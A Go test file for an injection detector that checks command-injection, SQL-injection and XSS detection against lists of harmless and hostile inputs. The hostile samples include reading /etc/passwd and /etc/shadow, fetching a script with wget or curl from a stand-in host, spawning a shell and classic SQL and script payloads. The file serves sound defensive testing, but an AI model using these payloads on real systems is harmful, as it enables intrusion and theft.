package injection_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/nfstream/nfstream-go/internal/injection"
)

func TestDecode(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "a+b": "a b", "%41%7e%7E": "A~~", "%": "%", "%4": "%4", "%zz": "%zz", "%2541": "%41", "a%": "a%", "%e2%82%ac": "€",
	} {
		require.Equal(t, want, injection.Decode(text, true))
	}
	require.Equal(t, "a+b", injection.Decode("a+b", false))
}

func TestValues(t *testing.T) {
	for url, want := range map[string]string{
		"a.example/x?a=one%20&b=two+three&four&c=12": "one |two three|four", "a.example/a%20b": "a b", "a.example/ab": "", "": "",
		"a.example?x=abcd": "abcd",
	} {
		var all []string
		injection.Values(url, func(v string) bool { all = append(all, v); return false })
		require.Equal(t, want, strings.Join(all, "|"), url)
	}
	injection.Values("a/?q="+strings.Repeat("x", 1<<20), func(v string) bool {
		require.LessOrEqual(t, len(v), injection.Max)
		return true
	})
}

// What people write in forms is no code.
var harmless = []string{
	"cats & dogs", "R&D", "AT&T id", "what is bash", "1;2;3", "a|b", "ping", "id", "cat", "price < 5", "O'Brien", "It's", "C++ & Python",
	"https://a.example/?a=b&c=d", "50% off (limited)", "x; y", "rock'n'roll", "Smith & Sons; builders", "10.0.0.1", "foo(bar)", "a=b",
	"{\"a\":1}", "select a plan", "2024-01-02T03:04:05Z", "drop me a line", "union square", "#anchor", "user@a.example", "c:\\temp", "<3",
}

var commands = []string{
	";cat /etc/passwd", "127.0.0.1|id", "a && whoami", "`uname -a`", "$(curl b.example)", "x;wget http://b.example/x.sh",
	"|/bin/cat /etc/shadow",
	"; /usr/bin/id;", "<?php echo 1;", "/bin/sh -i", "a\nping -c 1 b", "system('id')", "eval(base64_decode('x'))",
	"..\\cmd.exe /c dir", "& powershell -enc x",
}

func TestCommands(t *testing.T) {
	for _, text := range commands {
		require.True(t, injection.Command(text), text)
	}
	for _, text := range harmless {
		require.False(t, injection.Command(text), text)
	}
}

func TestLibrary(t *testing.T) {
	if !injection.Known {
		t.Skip("this build is without the library")
	}
	for _, text := range []string{"1' OR '1'='1", "1 or 1=1", "-1 UNION SELECT 1,2,3--", "'; DROP TABLE users--", "1;SELECT SLEEP(5)"} {
		require.True(t, injection.SQL(text), text)
	}
	for _, text := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=x>"} {
		require.True(t, injection.XSS(text), text)
	}
	for _, text := range harmless {
		require.False(t, injection.SQL(text), text)
		require.False(t, injection.XSS(text), text)
	}
}

// No text makes it fail or takes long.
func FuzzInjection(f *testing.F) {
	for _, text := range append(commands, harmless...) {
		f.Add("/a?q=" + text)
	}
	f.Fuzz(func(_ *testing.T, url string) {
		injection.Values(url, func(v string) bool {
			injection.Command(v)
			injection.SQL(v)
			injection.XSS(v)
			return false
		})
	})
}
